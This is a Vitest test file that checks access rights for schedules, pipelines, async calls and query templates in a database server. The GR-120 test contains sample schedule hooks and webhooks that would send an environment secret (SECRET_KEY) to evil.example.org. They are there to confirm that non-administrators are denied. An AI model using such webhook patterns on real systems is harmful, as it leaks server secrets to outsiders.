// Runs of schedules and pipelines have the rights of their owner, whoever asks for them.
import { expect, it } from "vitest";
import { OWN_NAMESPACE } from "../../server/catalog/template-types.ts";
import { readTemplates } from "../../server/gateway/template-file.ts";
import { storeTemplate } from "../../server/gateway/template-store.ts";
import { town } from "./support.ts";

const SCRIPT = `
CREATE TABLE orders (id INTEGER PRIMARY KEY);
CREATE TABLE log (what TEXT);
CREATE USER ann; CREATE USER bob;
GRANT CREATE ON DATABASE TO bob;
GRANT INSERT ON TABLE log TO bob;
`;

const MAKES = [
  "upsert procedure note () { INSERT INTO log VALUES ('noted') }",
  "upsert procedure clear () { DELETE FROM orders }",
  "upsert SCHEDULE as noting (sched: '0 0 1 1 *', exe: 'procedure', call: 'note')",
  "upsert SCHEDULE as clearing (sched: '0 0 1 1 *', exe: 'procedure', call: 'clear')",
  "CREATE SCHEDULE own CRON '0 0 1 1 *' AS BEGIN INSERT INTO log VALUES ('own'); END",
  "upsert PIPELINE as line (steps: [note, clear(after: note)])",
];

it("GR-121: a run does what its owner may, and fails as denied where he may not", () => {
  const { owner, as } = town(SCRIPT);
  const bob = as("bob");
  for (const text of MAKES) expect(bob.run(text), text).toMatch(/stored/);
  owner.run("GRANT RUN ON SCHEDULE noting, clearing, own TO ann; GRANT RUN ON PIPELINE line TO ann");
  const ann = as("ann");
  ann.run("RUN SCHEDULE noting");
  ann.run("RUN SCHEDULE own");
  expect(owner.run("SELECT what FROM log ORDER BY what")).toBe("noted\nown");
  ann.run("RUN SCHEDULE clearing");
  ann.run("RUN PIPELINE line");
  const runs = "SELECT DISTINCT status, error_code FROM system.runs WHERE status <> 'completed'";
  expect(owner.run(runs)).toBe("failed|PermissionDenied\nfailed|StepFailed");
  expect(owner.run("SELECT count(*) FROM log WHERE what = 'noted'")).toBe("2");
  owner.run("ALTER USER bob DISABLE");
  ann.run("RUN SCHEDULE noting");
  expect(owner.run("SELECT count(*) FROM log WHERE what = 'noted'")).toBe("2");
  expect(owner.run("SELECT error_code, error FROM system.runs WHERE error LIKE '%disabled%'")).toBe(
    "PermissionDenied|The user bob is disabled or was dropped.",
  );
});

it("GR-95: the SQL of a step has the rights of the pipeline's owner, in later versions too", () => {
  const { owner, as } = town(SCRIPT);
  const bob = as("bob");
  expect(bob.run("upsert PIPELINE as line (steps: [note(sql: 'INSERT INTO log VALUES (''noted'')')])")).toMatch(
    /stored/,
  );
  owner.run("GRANT RUN ON PIPELINE line TO ann");
  const ann = as("ann");
  ann.run("RUN PIPELINE line");
  expect(owner.run("SELECT what FROM log")).toBe("noted");
  owner.run(
    "upsert PIPELINE as line (steps: [note(sql: 'INSERT INTO log VALUES (''again'')'), clear(sql: 'DELETE FROM orders', after: note)])",
  );
  ann.run("RUN PIPELINE line");
  expect(owner.run("SELECT what FROM log ORDER BY what")).toBe("again\nnoted");
  expect(owner.run("SELECT name, error FROM system.run_steps WHERE status = 'failed'")).toMatch(
    /^clear\|PermissionDenied: bob may not delete from table orders/,
  );
});

it("GR-121: schedules of the owner of the database run with all rights", () => {
  const { owner } = town(`${SCRIPT} upsert procedure clear () { DELETE FROM orders }
    upsert SCHEDULE as clearing (sched: '0 0 1 1 *', exe: 'procedure', call: 'clear')`);
  owner.run("RUN SCHEDULE clearing");
  expect(owner.run("SELECT status FROM system.runs")).toBe("completed");
});

it("GR-121: an asynchronous call has the rights of who asked for it, also when another process does it", () => {
  const { owner, as } = town(`${SCRIPT} upsert procedure clear () as async { DELETE FROM orders }
    GRANT EXECUTE ON PROCEDURE clear TO ann; INSERT INTO orders VALUES (1);`);
  const ann = as("ann");
  expect(ann.run("async clear()")).toMatch(/^PermissionDenied: ann may not delete from table orders/);
  owner.run("GRANT DELETE ON TABLE orders TO ann");
  ann.run("BEGIN; async clear()");
  const asked =
    "SELECT r.run_id FROM system.runs r JOIN system.users u ON u.user_id = r.user_id WHERE u.name = 'ann' AND r.kind = 'call'";
  ann.run("COMMIT");
  const runId = owner.run(asked);
  expect(runId).not.toBe("");
  expect(owner.run("SELECT count(*) FROM orders")).toBe("0");
  // As a process does that takes the run over: the session is the server's own.
  owner.run("REVOKE DELETE ON TABLE orders FROM ann");
  const options = {
    output: { print: () => undefined, log: () => undefined, notice: () => undefined },
    limits: {},
    beforeCommit: () => undefined,
  };
  const server = owner.session;
  expect(server.serve({ ...options, runId }, () => server.call("clear", []))).toMatchObject({
    kind: "failed",
    error: { code: "PermissionDenied" },
  });
  expect(server.serve(options, () => server.call("clear", []))).toMatchObject({ kind: "returned" });
});

it("GR-120: a schedule sends no variable of the daemon's environment for somebody, and starts no other one that its owner may not run", () => {
  const { owner, as } = town(`${SCRIPT} upsert procedure quiet () { print "x" }
    upsert SCHEDULE as of_owner (sched: '0 0 1 1 *', exe: 'procedure', call: 'quiet')`);
  const bob = as("bob");
  const schedule = (name: string, more: string): string =>
    `upsert SCHEDULE as ${name} (sched: '0 0 1 1 *', exe: 'procedure', call: 'quiet', ${more})`;
  const secret = "https://evil.example.org/?key=${env.SECRET_KEY}";
  for (const more of [
    `on_failure: [webhook('${secret}')]`,
    `on_success: [webhook('https://evil.example.org/', headers: {"X-Key": '\${env.SECRET_KEY}'})]`,
    `pre_run_hook: '${secret}'`,
    `post_run_hook: '${secret}'`,
  ]) {
    expect(bob.run(schedule("leak", more)), more).toBe(
      "PermissionDenied: A schedule that names variables of the environment is for administrators, and bob is none.",
    );
    expect(owner.run(schedule("allowed", more)), more).toMatch(/stored/);
  }
  expect(bob.run("LIST SCHEDULES")).toBe("");
  const kick = schedule("kicks", "on_failure: [kickOffJob('of_owner')]");
  expect(bob.run(kick)).toMatch(/^PermissionDenied: bob may not run schedule of_owner/);
  owner.run("GRANT RUN ON SCHEDULE of_owner TO bob");
  expect(bob.run(kick)).toMatch(/stored/);
  expect(bob.run(schedule("own", "on_failure: [kickOffJob('own')]"))).toMatch(/stored/);
});

it("GR-95: a step with a query template has the rights of the pipeline's owner, who needs USE on it when it is private", () => {
  const { owner, as } = town(SCRIPT);
  const place = { connection: owner.session.connection, nowMicros: () => 0, elapsedMs: () => 0 };
  const text =
    "-- @query 1 hidden\n-- @param W STRING\nINSERT INTO log VALUES (:W)\n-- @query 2 open\n-- @public\nDELETE FROM orders";
  for (const template of readTemplates(text).templates) storeTemplate(owner.session, place, template, OWN_NAMESPACE);
  const bob = as("bob");
  const hidden = "upsert PIPELINE as line (steps: [note(query: 1, params: {W: 'noted'})])";
  expect(bob.run(hidden)).toMatch(/^PermissionDenied: .*hidden/);
  // Nothing of it is told to him.
  const told = bob.run(
    "upsert PIPELINE as line (steps: [note(query: hiden, params: {}), a(query: 1, params: {x: 1})])",
  );
  expect(told).toMatch(/PermissionDenied|E7068/);
  expect(told).not.toMatch(/hidden|W/);
  owner.run("GRANT USE ON TEMPLATE hidden TO bob");
  expect(bob.run(hidden)).toMatch(/stored/);
  expect(bob.run("upsert PIPELINE as wipe (steps: [clear(query: 'open')])")).toMatch(/stored/);
  owner.run("GRANT RUN ON PIPELINE line, wipe TO ann");
  const ann = as("ann");
  ann.run("RUN PIPELINE line; RUN PIPELINE wipe");
  expect(owner.run("SELECT what FROM log")).toBe("noted");
  expect(owner.run("SELECT name, error FROM system.run_steps WHERE status = 'failed'")).toMatch(
    /^clear\|PermissionDenied: bob may not delete from table orders/,
  );
});

it("GR-97: only who may change a pipeline rolls it back, and it keeps its owner", () => {
  const { owner, as } = town(SCRIPT);
  const bob = as("bob");
  bob.run("upsert PIPELINE as line (steps: [note(sql: 'INSERT INTO log VALUES (''one'')')])");
  bob.run("upsert PIPELINE as line (steps: [note(sql: 'INSERT INTO log VALUES (''two'')')])");
  expect(as("ann").run("ROLLBACK PIPELINE line TO 1")).toMatch(/^PermissionDenied/);
  owner.run("ROLLBACK PIPELINE line TO 1");
  owner.run("GRANT RUN ON PIPELINE line TO ann");
  as("ann").run("RUN PIPELINE line");
  expect(owner.run("SELECT what FROM log")).toBe("one");
  owner.run("GRANT ALTER ON PIPELINE line TO ann");
  expect(as("ann").run("ROLLBACK PIPELINE line TO 2")).toMatch(/^PermissionDenied: .*owner/);
  expect(bob.run("ROLLBACK PIPELINE line TO 2")).not.toMatch(/^[A-Z]\w+:/);
  expect(bob.run("SELECT version FROM system.pipeline_versions ORDER BY version")).toBe("1\n2\n3\n4");
  expect(as("ann").run("SELECT count(*) FROM system.pipeline_versions")).toBe("4");
});
